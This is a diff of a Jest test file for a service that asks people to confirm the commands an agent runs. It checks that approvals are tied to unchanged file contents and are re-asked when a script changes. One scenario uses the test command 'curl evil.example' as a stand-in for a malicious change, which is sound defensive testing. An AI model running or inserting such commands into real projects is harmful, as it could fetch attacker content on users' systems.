@@ -1,10 +1,8 @@
 // What a command executes, in a step: shown with the question, bound by its name, read again before the answer.
 import { expect } from '@jest/globals';
 import { usualFiles } from '../../lab/service/world/conversation.ts';
-import { letTimeJump } from '../../test/support/jumping-time.ts';
-import { aService, countRequests } from '../../test/support/simulated.ts';
-import { playSteps, type Telling } from '../../test/support/step-stories.ts';
-import { storiesOf } from '../../test/support/stories-of.ts';
+import { countRequests } from '../../test/support/simulated.ts';
+import { aService, letTimeJump, playSteps, type Telling } from '../../test/support/step-stories.ts';
 
 letTimeJump();
 
@@ -25,26 +23,22 @@ const isAnswered = [`forget requests | ${approves} → answered | sent accept ap
 const ruled =
   'run confirm tests; ask: always; rules: - accept: { tool: terminal, command: npm test, unchanged: true }';
 
-playSteps(
-  { live },
-  storiesOf<Telling>`
-    the output confirmation names the files too: an answer does not reach other contents
-      ${asks} | ${becomes(changed)} | ${approves} → not_waiting | ${becomes(null)} | ${approves} → not_waiting
-      sent nothing
-    an answer reaches the action where its files are what they were
-      ${asks} | ${isAnswered}
-    an answer waits for files that cannot be read for a moment
-      ${asks} | ${unread} 3 | ${isAnswered}
-    an answer reaches the action whose files cannot be read, which the question says
-      ${unread} 100000 | ${asks} | ${isAnswered}
-    a rule that accepts what is unchanged needs no person while it is, and asks once it is not
-      on issue | ${onDefaultBranch(String(usualFiles.get('package.json')))} | ${ruled} → finished | says unasked=0
-      ${onDefaultBranch(changed)} | ${ruled} → waiting_for_confirmation
-    where GitHub shows no file, none is known to be unchanged
-      ${ruled} → waiting_for_confirmation
-    a thread shows the script; once it has changed, an approval is not sent, and it is asked again
-      on issue | ${asks} | says test: node --test | ${becomes(changed)} | wendy: /approve → not_waiting | sent nothing
-      says test: curl evil.example | wendy: /approve NEW → finished | sent accept approved
-  `,
-  { inputs: { repository: 'octo/garden' } },
-);
+playSteps({ live }, { inputs: { repository: 'octo/garden' } })`
+  the output confirmation names the files too: an answer does not reach other contents
+    ${asks} | ${becomes(changed)} | ${approves} → not_waiting | ${becomes(null)} | ${approves} → not_waiting
+    sent nothing
+  an answer reaches the action where its files are what they were
+    ${asks} | ${isAnswered}
+  an answer waits for files that cannot be read for a moment
+    ${asks} | ${unread} 3 | ${isAnswered}
+  an answer reaches the action whose files cannot be read, which the question says
+    ${unread} 100000 | ${asks} | ${isAnswered}
+  a rule that accepts what is unchanged needs no person while it is, and asks once it is not
+    on issue | ${onDefaultBranch(String(usualFiles.get('package.json')))} | ${ruled} → finished | says unasked=0
+    ${onDefaultBranch(changed)} | ${ruled} → waiting_for_confirmation
+  where GitHub shows no file, none is known to be unchanged
+    ${ruled} → waiting_for_confirmation
+  a thread shows the script; once it has changed, an approval is not sent, and it is asked again
+    on issue | ${asks} | says test: node --test | ${becomes(changed)} | wendy: /approve → not_waiting | sent nothing
+    says test: curl evil.example | wendy: /approve NEW → finished | sent accept approved
+`;
